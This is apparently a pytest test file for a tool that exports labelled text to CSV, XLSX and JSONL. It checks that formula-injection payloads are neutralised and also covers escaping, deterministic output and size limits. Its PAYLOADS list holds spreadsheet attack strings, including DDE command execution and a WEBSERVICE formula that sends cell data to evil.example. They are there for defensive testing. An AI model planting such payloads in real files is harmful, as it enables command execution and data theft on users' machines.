"""Three kinds of file from the same rows: complete, harmless in a spreadsheet, and always the same bytes."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterable, Iterator

import openpyxl
import pytest

from classifiers.exporting.columns import ExportRow
from classifiers.exporting.csv_writer import write_csv
from classifiers.exporting.jsonl_writer import write_jsonl
from classifiers.exporting.label_words import LabelWords
from classifiers.exporting.xlsx_writer import DoesNotFit, write_xlsx
from classifiers.importing.labels import LabelBook, LabelName, Matched

# What spreadsheets run, or have run. Source: OWASP, "CSV Injection", and the reports that it links to.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "\uff1d1+1",
)
ODD = (
    "",
    "'=1",
    "''",
    'a "quoted", text;\nwith lines',
    "_x0041_",
    "_x005F_",
    "a\tb",
    "\uffff",
    "<b>&amp;</b>",
    "😀" * 3,
)


def _xlsx(rows: Iterable[ExportRow]) -> bytes:
    file = io.BytesIO()
    write_xlsx(rows, file=file)
    return file.getvalue()


def _csv_cells(rows: Iterable[ExportRow]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(write_csv(rows)).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_file_is_a_formula(payload: str) -> None:
    header, cells = _csv_cells([ExportRow(payload, payload)])

    assert (header, cells) == (["text", "label", "apostrophe_added"], [f"'{payload}", f"'{payload}", "text label"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula_even_when_edited(payload: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([ExportRow(payload, payload)])))["Examples"]

    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert {(cell.data_type, cell.quotePrefix, cell.number_format) for cell in cells} == {("s", True, "@")}
    assert [cell.value for cell in cells[:2]] == ["text", "label"]


@pytest.mark.parametrize("text", ODD[1:-1])
def test_a_csv_file_has_other_texts_as_they_are(text: str) -> None:
    assert _csv_cells([ExportRow(text, "")])[1] == [text, "", ""]


def test_every_cell_of_a_csv_file_is_quoted() -> None:
    lines = b"".join(write_csv([ExportRow("a;=1+1", "Fine")])).decode()

    assert lines == '\ufeff"text","label","apostrophe_added"\r\n"a;=1+1","Fine",""\r\n'


@pytest.mark.parametrize("text", (*PAYLOADS, *ODD))
def test_jsonl_has_every_text_as_it_is(text: str) -> None:
    [line] = b"".join(write_jsonl([ExportRow(text, "Fine")])).decode().removesuffix("\n").split("\n")

    assert json.loads(line) == {"text": text, "label": "Fine"}


def test_jsonl_has_null_where_there_is_no_label() -> None:
    assert b"".join(write_jsonl([ExportRow("hello", "")])) == b'{"text": "hello", "label": null}\n'


def test_a_workbook_has_the_texts_that_excel_shows() -> None:
    rows = [ExportRow(text, "Fine") for text in ("a\nb", "  two  blanks  ", "<b>&amp;</b>", "😀")]

    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx(rows)))["Examples"]

    assert [cell.value for cell in sheet["A"][1:]] == [row.text for row in rows]


def test_what_looks_like_an_escape_of_excel_is_escaped() -> None:
    with zipfile.ZipFile(io.BytesIO(_xlsx([ExportRow("_x0041_ \uffff", "")]))) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()

    assert "_x005F_x0041_ _xFFFF_<" in sheet


@pytest.mark.parametrize("write", [_xlsx, write_csv, write_jsonl])
def test_the_same_rows_give_the_same_bytes(write: object, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [ExportRow("hello", "Fine"), ExportRow("=1", "")]
    first = _bytes(write, rows)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)

    assert _bytes(write, rows) == first


def _bytes(write: object, rows: list[ExportRow]) -> bytes:
    assert callable(write)
    written = write(rows)
    return written if isinstance(written, bytes) else b"".join(written)


def test_a_text_of_just_the_length_of_a_cell_fits() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([ExportRow("x" * 32_767, "")])))["Examples"]

    assert len(sheet["A2"].value) == 32_767


@pytest.mark.parametrize("text", ["x" * 32_768, "😀" * 16_384], ids=["letters", "emoji, of two units each"])
def test_longer_ones_are_counted_and_refused(text: str) -> None:
    with pytest.raises(DoesNotFit, match=r"^2 texts are longer than the 32,767 .* Export as CSV or JSONL instead\.$"):
        _xlsx([ExportRow("short", ""), ExportRow(text, ""), ExportRow("short", ""), ExportRow(text + "!", "")])


def test_more_rows_than_a_sheet_has_are_refused() -> None:
    write_xlsx([ExportRow("x", "")] * 2, file=io.BytesIO(), max_rows=3)

    with pytest.raises(DoesNotFit, match="no more than 3 rows"):
        write_xlsx([ExportRow("x", "")] * 3, file=io.BytesIO(), max_rows=3)


def test_a_workbook_that_no_upload_takes_is_refused() -> None:
    write_xlsx([ExportRow("x", "")], file=io.BytesIO(), max_bytes=1_500)

    with pytest.raises(DoesNotFit, match="larger than 1,500 bytes"):
        write_xlsx([ExportRow("x" * 1_000, "")], file=io.BytesIO(), max_bytes=1_500)


@pytest.mark.parametrize("write", [write_csv, write_jsonl])
def test_a_file_comes_in_pieces_while_the_rows_are_read(write: object) -> None:
    taken: list[int] = []

    def rows() -> Iterator[ExportRow]:
        for number in range(10):
            taken.append(number)
            yield ExportRow("x" * 40_000, "")

    assert callable(write)
    first = next(write(rows()))

    assert (len(taken), len(first) < 100_000) == (2, True)


@pytest.mark.parametrize("name", ["Fine", "=cmd", "Ça va", "  "])
def test_a_label_is_written_by_name(name: str) -> None:
    words = LabelWords([LabelName(0, "Other"), LabelName(1, name)])

    assert words.word(1, name=name) == (name if name.strip() else "1")


@pytest.mark.parametrize("name", ["0", "7", "1.0", "+3", "\u200b", "\u0662"])
def test_a_name_that_an_import_would_misread_is_written_as_a_number(name: str) -> None:
    labels = [LabelName(0, "Other"), LabelName(1, name)]

    word = LabelWords(labels).word(1, name=name)

    assert LabelBook(labels).match(word) == Matched(1)


def test_a_label_that_came_up_meanwhile_is_written_as_a_number() -> None:
    assert LabelWords([LabelName(0, "Fine")]).word(1, name="New") == "1"
